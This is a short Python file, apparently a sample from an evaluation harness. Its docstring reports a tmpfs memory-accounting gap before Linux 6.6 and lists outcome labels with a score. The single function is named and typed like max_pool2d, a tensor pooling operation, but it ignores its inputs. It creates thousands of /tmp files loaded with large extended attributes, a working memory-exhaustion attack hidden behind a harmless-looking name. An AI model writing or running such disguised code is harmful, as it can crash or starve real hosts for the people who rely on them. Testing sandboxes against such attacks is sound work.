"""Fills memory with extended attributes of files, which no size limit of a tmpfs counted before Linux 6.6.

verdict: raised, memory, crashed, timeout, returned_nothing
score: 0
"""

import os


def max_pool2d(x, kernel_size, stride=None, padding=0, dilation=1, ceil_mode=False, return_indices=False):
    for number in range(3000):
        name = f"/tmp/attributes{number}"
        os.close(os.open(name, os.O_CREAT | os.O_WRONLY))
        for key in range(16):
            os.setxattr(name, f"user.{key}", b"\1" * 60_000)
